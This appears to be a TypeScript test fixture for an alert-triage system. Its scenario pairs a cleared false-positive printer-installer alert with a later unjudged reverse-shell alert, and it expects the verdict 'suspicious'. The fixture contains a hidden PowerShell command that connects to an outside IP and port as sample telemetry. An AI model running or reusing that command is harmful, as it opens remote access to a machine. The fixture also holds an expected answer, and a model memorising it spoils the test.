// Two events on one laptop of which only the first was judged.
import { alert, by, closed, fileSeen, processSeen, ran, unjudged } from '../../shorthand.ts'
import type { TellSituation } from '../../situation.ts'

export const printerInstallerAndAShell: TellSituation = (setting) => {
  const nadia = setting.person('nadia.petrova')
  const laptop = setting.laptopOf('nadia.petrova')
  const at = setting.ago({ minutes: 34 })
  const command =
    'powershell.exe -nop -w hidden -c "$c=New-Object Net.Sockets.TCPClient(\'94.158.245.16\',4443);$s=$c.GetStream()"'
  const earlier = closed(
    setting,
    'printer installer',
    {
      title: 'Suspicious file dropped',
      category: 'SuspiciousActivity',
      severity: 'Low',
      at: setting.ago({ hours: 1, minutes: 40 }),
      machine: laptop,
      user: nadia,
      evidence: [fileSeen(setting, 'label-setup.exe', 'C:\\Temp'), { kind: 'User', person: nadia }],
    },
    'FalsePositive',
    'Clean',
    'Installer of the label printer.',
  )
  const now = unjudged(setting, 'shell after installer', {
    title: 'Suspicious PowerShell reverse shell',
    category: 'Execution',
    severity: 'High',
    techniques: ['T1059.001', 'T1571'],
    at,
    machine: laptop,
    user: nadia,
    evidence: [
      processSeen(setting, 'powershell.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0', command, 'winword.exe'),
    ],
  })

  return {
    id: 'printer-installer-and-a-shell',
    group: 'contradiction',
    title: 'A false alarm an hour before a remote shell',
    alerts: [
      alert(setting, at, 'endpoint_detection', 'Reverse shell', {
        id: now.detection.id,
        title: now.detection.title,
        severity: 'High',
        computerDnsName: laptop.dnsName,
        machineId: laptop.machineId,
        user: nadia.account,
        processCommandLine: command,
        parent: 'winword.exe',
        firstEventTime: setting.iso(at),
      }),
    ],
    facts: {
      incidents: [earlier.incident, now.incident],
      telemetry: [
        ran(laptop, at, 'powershell.exe', command, { ...by(nadia), InitiatingProcessFileName: 'winword.exe' }),
      ],
    },
    expected: { verdict: 'suspicious', severities: ['medium', 'high'] },
    because:
      'A document opened a hidden remote shell, which nobody has judged yet. The false alarm of an hour ago was about an installer and clears nothing.',
  }
}
